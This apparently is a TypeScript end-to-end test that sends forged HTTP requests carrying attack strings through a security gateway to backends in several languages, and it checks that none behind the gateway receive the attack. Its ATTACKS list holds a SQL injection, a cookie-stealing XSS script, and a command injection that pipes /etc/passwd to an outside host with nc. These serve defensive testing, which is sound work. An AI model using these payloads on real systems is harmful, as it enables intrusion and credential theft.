// What the parsers of backends read in a request, inspection has read: generated requests, each with an
// attack in a form that parsers take in different ways, go through the gateway to backends in seven
// languages. None may read an attack. `POSTERN_E2E_COUNT` and `POSTERN_E2E_SEED` send other requests, or
// more.
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { type AllBackends, BACKENDS, exchange, type Readings, startBackends } from './backends.ts'
import { type ForgedRequest, forgedRequest } from './forged-requests.ts'
import { type Protected, protect } from './protected.ts'

const COUNT = Number(process.env['POSTERN_E2E_COUNT'] ?? 3_000)
const SEED = Number(process.env['POSTERN_E2E_SEED'] ?? 1)
/** How many of them go to the backends without a gateway too, to show that these read attacks. */
const DIRECT = 200
const LANES = 4

const ATTACKS = [
  "1' UNION SELECT username,password FROM users-- -",
  '<script>alert(document.cookie)</script>',
  '; cat /etc/passwd | nc 10.1.1.1 99',
]

let backends: AllBackends
let gateway: Protected
/** Where a backend read the attack, by its name: through the gateway, and without it. */
const reached = new Map<string, string[]>()
const direct = new Map<string, number>()
let passed = 0

before(async () => {
  backends = await startBackends()
  gateway = await protect(backends.url, { config: { limits: { address: false, busy: false, login: false } } })
  const seeds = Array.from({ length: COUNT }, (_, index) => SEED + index).values()
  await Promise.all(Array.from({ length: LANES }, () => sendAll(seeds)))
})
after(async () => {
  await gateway?.stop()
  await backends?.stop()
})

async function sendAll(seeds: IteratorObject<number>): Promise<void> {
  for (const seed of seeds) {
    const attack = ATTACKS[seed % ATTACKS.length] ?? ''
    const forged = forgedRequest(seed, attack)
    if (seed < SEED + DIRECT)
      for (const name of readersOf(await send(backends.url, forged), attack))
        direct.set(name, (direct.get(name) ?? 0) + 1)
    const answer = await send(gateway.url, forged)
    if (!answer.startsWith('HTTP/1.1 200')) continue
    passed++
    for (const name of readersOf(answer, attack)) {
      const { kind, target, headers, body } = forged
      const shown = JSON.stringify({ target, headers, body: body.toString('latin1') })
      reached.set(name, [...(reached.get(name) ?? []), `seed ${seed}, ${kind}: ${shown}`])
    }
  }
}

function send(url: string, { method, target, headers, body }: ForgedRequest): Promise<string> {
  const lines = [`${method} ${target} HTTP/1.1`, 'host: shop.example', 'connection: close']
  for (const [name, value] of headers) lines.push(`${name}: ${value}`)
  if (method === 'POST') lines.push(`content-length: ${body.length}`)
  const head = Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1')
  return exchange(Number(new URL(url).port), Buffer.concat([head, body]))
}

/** The backends that read the attack whole, in one text. */
function readersOf(answer: string, attack: string): string[] {
  const json = /\{.*\}/s.exec(answer.slice(answer.indexOf('\r\n\r\n') + 4))?.[0]
  if (json === undefined) return []
  return Object.entries(JSON.parse(json) as Readings)
    .filter(([, texts]) => texts.some(text => text.includes(attack)))
    .map(([name]) => name)
}

describe(`of ${COUNT} generated requests with an attack`, () => {
  for (const { name } of BACKENDS)
    test(`${name} reads none behind the gateway, and many without it`, t => {
      const why = backends.missing.get(name)
      if (why !== undefined) {
        t.skip(`${name} is ${why}`)
        return
      }
      assert.ok((direct.get(name) ?? 0) > DIRECT / 20, `${direct.get(name)} of ${DIRECT} read directly`)
      assert.deepEqual(reached.get(name) ?? [], [])
    })

  test('some pass: those that no backend reads an attack in', () => {
    assert.ok(passed > 0 && passed < COUNT / 2, `${passed} of ${COUNT} passed`)
  })
})
